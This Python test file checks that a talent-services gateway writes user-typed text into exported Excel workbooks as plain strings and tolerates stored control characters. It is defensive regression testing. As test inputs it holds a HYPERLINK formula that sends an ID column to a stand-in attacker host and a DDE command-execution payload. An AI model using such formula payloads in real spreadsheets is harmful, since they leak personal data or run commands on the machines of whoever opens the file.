"""Text in the workbooks the gateway writes: what people typed is a string cell, never a
formula, and stored text XML cannot hold never breaks an export.

Attacks replayed: a talent named `=HYPERLINK("http://evil.example/?"&C2,"详情")` came out of
exportTalents as a formula pointing at the unmasked ID column; a name of "\\x00" put into
the database made exportTalents fail with INTERNAL for every office of that city.
"""

from __future__ import annotations

import datetime as dt
import io
import sqlite3
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import Workbook, load_workbook
from tortoise.transactions import in_transaction

from gateway.embedded_redis import EmbeddedRedis
from permissions.audit import Actor
from resolvers.archives.export import ARCHIVE_SHEET_COLUMNS, ARCHIVE_SHEET_TITLE
from resolvers.archives.quarterly import file_quarterly_archive
from resolvers.core.ids import encode_id
from resolvers.files.xlsx import FORMULA_STARTS, REPLACEMENT, read_table, sheet_row, workbook_bytes
from resolvers.talents.export import TALENT_SHEET_COLUMNS, TALENT_SHEET_TITLE
from schema.models import Complaint, Report, ServiceItem, ServiceWindow, Talent, User
from schema.models.enums import ComplaintKind, ComplaintSource
from tests.support.databases import SqliteDatabases
from tests.support.graphql import GraphQLClient
from tests.support.handling import ACCEPT, HANDLERS, call
from tests.support.live_server import LiveServer, demo_server
from tests.support.talent_sheets import person_id, sheet, talent_row

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"详情")'
CREATE = """mutation($input: CreateTalentInput!) {
  createTalent(input: $input) { talent { id name } userErrors { field code message } } }"""
EXPORT = """mutation($input: ExportTalentsInput!) {
  exportTalents(input: $input) { url rowCount userErrors { field code message } } }"""
IMPORT = """query($id: ID!) { talentImport(id: $id) { status errorCount reportUrl } }"""


@pytest.fixture(scope="module")
def served(sqlite_databases: SqliteDatabases, redis_server: EmbeddedRedis,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, Path]]:  # fmt: skip
    """A real server on a copy of the demo database, and that database's file (to put rows
    into it the way no mutation would)."""
    with demo_server(sqlite_databases, redis_server, tmp_path_factory.mktemp("sheets")) as server:
        yield server, Path(server.env["DATABASE_URL"].removeprefix("sqlite://"))


def _download(server: LiveServer, url: str, user: str) -> bytes:
    response = server.get(url, headers={"Authorization": f"Bearer {server.login(user)}"})
    assert response.status_code == 200, response.text
    return response.content


def _export(server: LiveServer, flt: dict[str, Any], user: str = "changan_admin") -> bytes:
    body = server.gql(EXPORT, {"input": {"filter": flt}}, as_user=user)
    assert "errors" not in body, body
    payload = body["data"]["exportTalents"]
    assert payload["userErrors"] == [], payload
    return _download(server, payload["url"], user)


def _no_formulas(content: bytes) -> None:
    """No sheet of the workbook stores a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name


def _as_text(cell: Any, typed: str) -> None:
    """A string cell showing exactly what was typed, quote-prefixed when it looks like a formula."""
    assert (cell.value, cell.data_type) == (typed, "s")
    assert bool(cell.quotePrefix) == typed.startswith(FORMULA_STARTS)


# -- over HTTP ------------------------------------------------------------------------------


def test_a_formula_typed_as_a_name_is_exported_as_the_text_typed(served: tuple[LiveServer, Path]) -> None:
    server, _ = served
    talent = {"name": FORMULA, "idNumber": person_id(901), "jurisdictionCode": "130102"}
    created = server.gql(CREATE, {"input": talent}, as_user="changan_admin")["data"]["createTalent"]
    assert created["userErrors"] == [] and created["talent"]["name"] == FORMULA

    content = _export(server, {"name": {"eq": FORMULA}})
    _no_formulas(content)
    sheet = load_workbook(io.BytesIO(content))[TALENT_SHEET_TITLE]
    # the fixed columns first; 石家庄's custom fields (demo) follow them
    assert tuple(c.value for c in sheet[1])[: len(TALENT_SHEET_COLUMNS)] == TALENT_SHEET_COLUMNS
    _as_text(sheet["A2"], FORMULA)
    assert sheet["C2"].value == person_id(901)  # the column the formula pointed at


def test_a_rejected_rows_formula_stays_text_in_the_error_sheet(served: tuple[LiveServer, Path]) -> None:
    server, _ = served
    rows = [talent_row(902, 姓名=FORMULA, 证件号码="130102199001011230"),  # wrong check digit
            talent_row(903, 姓名="-1+2", 所在区划代码="999999")]  # fmt: skip
    token = server.login("changan_admin")
    response = httpx.post(
        f"{server.base}/imports/talents", params={"mode": "VALID_ROWS_ONLY"}, content=sheet(rows),
        headers={"Authorization": f"Bearer {token}"}, timeout=30,
    )  # fmt: skip
    assert response.status_code == 202, response.text
    job: dict[str, Any] = {}
    for _ in range(300):  # the server's own worker runs the import
        body = server.gql(IMPORT, {"id": response.json()["id"]}, as_user="changan_admin")
        job = body["data"]["talentImport"]
        if job["status"] not in ("QUEUED", "RUNNING"):
            break
        time.sleep(0.1)
    assert job["status"] == "DONE" and job["errorCount"] == 2, job

    content = _download(server, job["reportUrl"], "changan_admin")
    _no_formulas(content)
    errors = load_workbook(io.BytesIO(content))[TALENT_SHEET_TITLE]
    _as_text(errors["A2"], FORMULA)
    _as_text(errors["A3"], "-1+2")


def test_a_control_character_stored_in_a_name_no_longer_breaks_the_export(
    served: tuple[LiveServer, Path],
) -> None:
    server, path = served
    stored = "坏\x00名\x1b字\x0b"
    with sqlite3.connect(path) as db:  # as an old version or a direct database edit left it
        changed = db.execute(
            "UPDATE talent SET name = ? WHERE id = (SELECT MIN(id) FROM talent WHERE jurisdiction_id = ?)",
            (stored, "130102"),
        ).rowcount
    assert changed == 1
    body = server.gql(EXPORT, {"input": {"filter": {"withinJurisdiction": "130100"}}}, as_user="sjz_admin")
    assert "errors" not in body, body
    payload = body["data"]["exportTalents"]
    assert payload["userErrors"] == [] and payload["rowCount"] > 1
    _, rows = read_table(_download(server, payload["url"], "sjz_admin"), TALENT_SHEET_TITLE)
    names = [row[0] for row in rows]
    assert stored not in names
    assert f"坏{REPLACEMENT}名{REPLACEMENT}字{REPLACEMENT}" in names  # marked, not dropped silently
    assert "Traceback" not in server.log()


# -- every writer, both databases -------------------------------------------------------------


async def test_a_formula_typed_as_a_handlers_opinion_stays_text_in_the_archive_export(
    client: GraphQLClient,
) -> None:
    talent_id = (await User.get(username="talent_demo")).talent_id
    item = await ServiceItem.get(code="sjz.school")
    submit = """mutation($input: SubmitServiceRequestInput!) { submitServiceRequest(input: $input) {
      serviceRequest { handoffs { id department { name } } } userErrors { code } } }"""
    variables = {"talentId": encode_id("Talent", talent_id), "itemIds": [encode_id("ServiceItem", item.id)]}
    submitted = await client.data(submit, {"input": variables}, as_user="changan_window")
    [handoff] = submitted["submitServiceRequest"]["serviceRequest"]["handoffs"]
    handler = HANDLERS[handoff["department"]["name"]]
    assert await call(client, ACCEPT, handler, id=handoff["id"]) == []
    complete = """mutation($id: ID!, $opinion: String) { completeHandoff(input: {handoffId: $id,
      outcome: APPROVED, opinion: $opinion}) { userErrors { code } } }"""
    opinion = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert await call(client, complete, handler, id=handoff["id"], opinion=opinion) == []

    export = """mutation { exportArchive(input: {format: XLSX}) { url userErrors { code } } }"""
    url = (await client.data(export, as_user="talent_demo"))["exportArchive"]["url"]
    content = (await client.get(url, as_user="talent_demo")).content
    _no_formulas(content)
    sheet = load_workbook(io.BytesIO(content))[ARCHIVE_SHEET_TITLE]
    column = ARCHIVE_SHEET_COLUMNS.index("办理意见")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value]
    assert cells, "the archive lists the handled item"
    _as_text(cells[-1], opinion)


async def test_the_quarterly_archive_writes_typed_text_as_text_and_survives_stored_controls(
    demo_db: str,
) -> None:
    window = await ServiceWindow.get(name="长安区人才服务分窗口")
    at = dt.datetime(2021, 5, 1, 1, tzinfo=dt.UTC)
    complaint = await Complaint.create(
        number="TS-FORMULA", kind=ComplaintKind.COMPLAINT, source=ComplaintSource.HOTLINE,
        jurisdiction_id="130102", complainant_name="王小明", complainant_phone="13812345678",
        subject="＝1+1\x01", content="……", filed_by="changan_window",
    )  # fmt: skip
    await Complaint.filter(id=complaint.id).update(created_at=at)
    async with in_transaction():
        filing = await file_quarterly_archive(window, 2021, 2, Actor("sjz_admin"), today=dt.date(2021, 7, 2))
    content = bytes((await Report.get(id=filing.archive.report_id)).content)
    _no_formulas(content)
    sheet = load_workbook(io.BytesIO(content))["投诉处理"]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "TS-FORMULA"]
    _as_text(row[4], f"＝1+1{REPLACEMENT}")


async def test_stored_control_characters_export_on_both_databases(client: GraphQLClient) -> None:
    talent = await Talent.filter(jurisdiction_id="130102").order_by("id").first()
    assert talent is not None
    # PostgreSQL stores no NUL in text; every other C0 control it does, and so does SQLite.
    await Talent.filter(id=talent.id).update(name="控\x01制\x1f符\ufffe")
    flt = {"id": {"eq": encode_id("Talent", talent.id)}}
    data = await client.data(EXPORT, {"input": {"filter": flt}}, as_user="changan_admin")
    payload = data["exportTalents"]
    assert payload["userErrors"] == [] and payload["rowCount"] == 1
    content = (await client.get(payload["url"], as_user="changan_admin")).content
    _, rows = read_table(content, TALENT_SHEET_TITLE)
    assert rows[0][0] == f"控{REPLACEMENT}制{REPLACEMENT}符{REPLACEMENT}"


# -- the one helper -----------------------------------------------------------------------------


@pytest.mark.parametrize("typed", [FORMULA, "+1", "-1", "@A1", "\tA", "\r=1", "＝1", "＋1", "－1", "＠A1",
                                   "#N/A", "=", "普通文字", "a=b"])  # fmt: skip
def test_every_writer_stores_what_was_typed_as_a_string_cell(typed: str) -> None:
    streamed = load_workbook(io.BytesIO(workbook_bytes(["列"], [[typed]], "表")))["表"]["A2"]
    book = Workbook()
    book.active.append(sheet_row(book.active, [typed]))
    buffer = io.BytesIO()
    book.save(buffer)
    ordinary = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    expected = typed.replace("\r", "\n") if typed.startswith("\r") else typed  # XML reads CR as LF
    for cell in (streamed, ordinary):
        assert cell.data_type == "s" and cell.value in (typed, expected)
        assert bool(cell.quotePrefix) == typed.startswith(FORMULA_STARTS)
